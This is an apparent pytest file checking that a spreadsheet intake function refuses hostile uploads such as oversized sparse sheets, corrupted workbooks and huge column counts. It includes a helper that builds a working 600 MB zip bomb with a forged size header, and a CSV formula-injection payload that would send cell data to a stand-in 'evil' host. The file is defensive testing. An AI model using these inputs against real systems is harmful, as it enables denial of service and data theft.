"""Files made to do harm end in a reason, fast, and leave this process alone."""

import json
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from conftest import require
from sheets import TODAY, csv_sheet, rewritten, xlsx_sheet

from sales_core.intake.prepare import prepare_file


def ends(path) -> str:
    started = time.monotonic()
    (sheet,) = prepare_file(path, today=TODAY)
    assert time.monotonic() - started < 25
    assert sheet.table is None
    return sheet.issues[0].code


def test_a_cell_in_the_far_corner_asks_for_more_memory_than_there_is(tmp_path):
    path = xlsx_sheet(tmp_path, ["Customer", "Amount"], ["A", 77])
    rewritten(path, "xl/worksheets/sheet1.xml", b'<row r="2"', b'<row r="1048576"')
    rewritten(path, "xl/worksheets/sheet1.xml", b'r="B2"', b'r="XFD1048576"')
    assert ends(path) == "too_much_memory"


def bomb(path, told: int | None = None):
    """A workbook whose sheet unzips to 600 MB; `told` is what the archive claims."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(squeeze.compress(b" " * 1_000_000) for _ in range(600)) + squeeze.flush()
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", packed)
    raw = bytearray(path.read_bytes())
    entry = raw.index(b"PK\x01\x02", raw.index(b"PK\x01\x02") + 1)
    local = raw.index(b"PK\x03\x04", 4)
    raw[entry + 10 : entry + 12] = raw[local + 8 : local + 10] = struct.pack("<H", 8)
    raw[entry + 24 : entry + 28] = struct.pack("<I", told or 600_000_000)
    path.write_bytes(raw)
    return path


@pytest.mark.parametrize("told", [None, 500])
def test_a_zip_bomb_is_refused_also_when_it_lies_about_its_size(tmp_path, told):
    assert ends(bomb(tmp_path / "bomb.xlsx", told)) == "unzips_too_large"


def test_a_sheet_of_a_hundred_thousand_columns_is_refused(tmp_path):
    assert ends(csv_sheet(tmp_path, ",".join(["a"] * 100_000), ",".join(["1"] * 100_000))) == "too_many_columns"


@pytest.mark.parametrize("seed", range(6))
def test_a_workbook_with_broken_bytes_never_raises(tmp_path, seed):
    path = xlsx_sheet(tmp_path, ["Customer", "Order Date", "Amount"], ["A", "2026-01-01", 1])
    raw = bytearray(path.read_bytes())
    for step in range(25):
        raw[(seed * 7919 + step * 104_729) % len(raw)] = (seed * 31 + step * 17) % 256
    path.write_bytes(raw)
    (sheet,) = prepare_file(path, today=TODAY)
    assert sheet.issues or sheet.table is not None


def test_a_formula_in_a_text_file_stays_text(tmp_path):
    path = csv_sheet(
        tmp_path, "Order Date,Customer,Amount", '2026-01-01,"=HYPERLINK(""http://evil/?""&A1,""x"")",5', name="o.csv"
    )
    (sheet,) = prepare_file(path, today=TODAY)
    assert sheet.table["customer"].to_pylist() == ['=HYPERLINK("http://evil/?"&A1,"x")']


MAKER = Path(__file__).parents[3] / "shared" / "hostile" / "make_hostile.py"
READ_ALL = """
import json, resource, sys, time
from datetime import date
from pathlib import Path
from sales_core.intake.prepare import prepare_file

for path in sorted(Path(sys.argv[1]).iterdir()):
    begun = time.monotonic()
    sheets = prepare_file(path, today=date(2026, 11, 24))
    told = {"name": path.name, "seconds": time.monotonic() - begun, "ends": [sheet.status for sheet in sheets]}
    told["codes"] = [sheet.issues[0].code if sheet.issues else "" for sheet in sheets]
    told["peak"] = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024
    print(json.dumps(told), flush=True)
"""


@pytest.fixture(scope="module")
def every_hostile_file(tmp_path_factory):
    """What became of each file that the maker beside the project writes, by name."""
    if not MAKER.exists():
        require("the maker of hostile files in ../shared/hostile")
    folder = tmp_path_factory.mktemp("hostile")
    subprocess.run([sys.executable, MAKER, folder], check=True, stdout=subprocess.DEVNULL)
    told = subprocess.run(
        [sys.executable, "-c", READ_ALL, folder],
        check=True,
        capture_output=True,
        text=True,
        cwd=Path(__file__).parents[2],
    )
    for path in folder.iterdir():
        path.unlink()
    return {(found := json.loads(line))["name"]: found for line in told.stdout.splitlines()}


@pytest.mark.real
def test_every_hostile_file_ends_in_a_result_or_a_named_reason_in_time_and_memory(every_hostile_file):
    assert len(every_hostile_file) >= 100
    unnamed = [
        name
        for name, found in every_hostile_file.items()
        if not found["ends"]
        or any(end != "committed" and not code for end, code in zip(found["ends"], found["codes"], strict=True))
    ]
    assert unnamed == []
    assert {name: found["seconds"] for name, found in every_hostile_file.items() if found["seconds"] > 25} == {}
    assert max(found["peak"] for found in every_hostile_file.values()) < 1.5 * 2**30


@pytest.mark.real
@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("sparse_far_corner.xlsx", "too_much_memory"),
        ("bomb_sheet_1GB.xlsx", "unzips_too_large"),
        ("bomb_lying_size.xlsx", "unzips_too_large"),
        ("overlap_64GB.xlsx", "unzips_too_large"),
        ("many_sheets_50k.xlsx", "too_many_sheets"),
        ("rows_5M.csv", "too_many_rows"),
        ("one_line_100MB.csv", "cell_too_long"),
        ("unclosed_quote_5MB.csv", "cell_too_long"),
        ("gzbomb.csv.gz", "compressed_file"),
        ("binary.csv", "not_a_sheet"),
        ("repeat_cols_2e9.ods", "too_many_columns"),
    ],
)
def test_a_hostile_file_is_refused_for_what_it_is(every_hostile_file, name, code):
    assert every_hostile_file[name]["codes"] == [code]
